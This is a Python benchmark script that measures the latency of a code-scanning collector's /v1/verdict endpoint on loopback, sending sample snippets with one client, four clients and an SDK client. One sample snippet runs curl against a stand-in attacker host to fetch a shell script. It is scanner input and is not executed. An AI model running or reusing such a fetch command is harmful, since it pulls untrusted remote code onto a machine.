"""Measures `/v1/verdict` of a collector on loopback: latency of scans one after another, and side by side.

    python tests/bench/verdicts.py [--requests N]

The snippets are the repository's own: text here, nothing of them is executed. One process scans. The first
line is the control: the same requests without a scan, which on a busy machine take their time as well.
"""

from __future__ import annotations

import argparse
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Sequence

import httpx
import orjson

from spanproof.instrumentors.verdict_client import VerdictClient

SNIPPETS = (
    ("python", "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\nprint(df.a.mean())\n"),
    ("python", "import subprocess\nsubprocess.run(['curl', 'http://evil.example/x.sh'])\n"),
    ("python", "\n".join(f"total_{n} = sum(range({n})) + len('{n}' * 3)" for n in range(60))),
    ("bash", "for f in *.csv; do cut -d, -f2 \"$f\" | sort | uniq -c; done\n"),
    ("sql", "SELECT region, sum(amount) FROM orders WHERE day > '2026-01-01' GROUP BY region\n"),
    ("javascript", "const rows = [1, 2, 3]; console.log(rows.map(x => x * x).join(','));\n"),
    ("text", "The refund for order A-17 was 31.20 USD and was sent on Monday.\n"),
)  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--requests", type=int, default=2000)
    count = parser.parse_args().requests
    with tempfile.TemporaryDirectory() as folder:
        settings = {
            "receivers.grpc.enabled": "false",
            "receivers.http.port": "0",
            "console.enabled": "false",
            "verdicts.enabled": "true",
            "evaluation.replay": "false",
            "evaluation.workers": "1",
            "wal.directory": f"{folder}/wal",
            "store.location": f"{folder}/store",
        }
        flags = [part for key, value in settings.items() for part in ("--set", f"{key}={value}")]
        command = [sys.executable, "-m", "spanproof.cli", "serve", "--json", "--log-level", "error", *flags]
        with subprocess.Popen(command, stdout=subprocess.PIPE, cwd=folder) as process:
            assert process.stdout is not None
            url = orjson.loads(process.stdout.readline())["http"]
            try:
                report("no scan at all", measure_empty(url, count))
                report("one client", measure(url, count))
                report("four clients", measure_beside(url, count, 4))
                report("one guard", measure_guard(url, count))
            finally:
                process.terminate()


def measure(url: str, count: int) -> list[float]:
    """Return the seconds of each request of one client."""
    times = []
    with httpx.Client() as client:
        for number in range(count + len(SNIPPETS)):
            language, code = SNIPPETS[number % len(SNIPPETS)]
            began = time.perf_counter()
            client.post(f"{url}/v1/verdict", json={"code": code, "language": language}).raise_for_status()
            times.append(time.perf_counter() - began)
    return times[len(SNIPPETS) :]


def measure_empty(url: str, count: int) -> list[float]:
    """Return the seconds of requests that are refused unread: what the machine and HTTP take alone."""
    times = []
    with httpx.Client() as client:
        for _ in range(count):
            began = time.perf_counter()
            client.post(f"{url}/v1/verdict", json={})
            times.append(time.perf_counter() - began)
    return times


def measure_beside(url: str, count: int, clients: int) -> list[float]:
    """Return the seconds of each request of several clients at once."""
    times: list[float] = []
    threads = [
        threading.Thread(target=lambda: times.extend(measure(url, count // clients))) for _ in range(clients)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return times


def measure_guard(url: str, count: int) -> list[float]:
    """Return the seconds of each request of the SDK's client."""
    client, times = VerdictClient(url), []
    for number in range(count):
        language, code = SNIPPETS[number % len(SNIPPETS)]
        began = time.perf_counter()
        client.scan(code, language)
        times.append(time.perf_counter() - began)
    return times


def report(name: str, times: Sequence[float]) -> None:
    """Print percentiles in milliseconds."""
    ordered = sorted(times)
    shares = {share: ordered[min(len(ordered) - 1, int(share * len(ordered)))] for share in (0.5, 0.9, 0.99)}
    shown = "  ".join(f"p{share * 100:g} {seconds * 1e3:6.2f} ms" for share, seconds in shares.items())
    print(f"{name:<14} n {len(ordered):>5}  {shown}  max {ordered[-1] * 1e3:6.2f} ms")


if __name__ == "__main__":
    main()
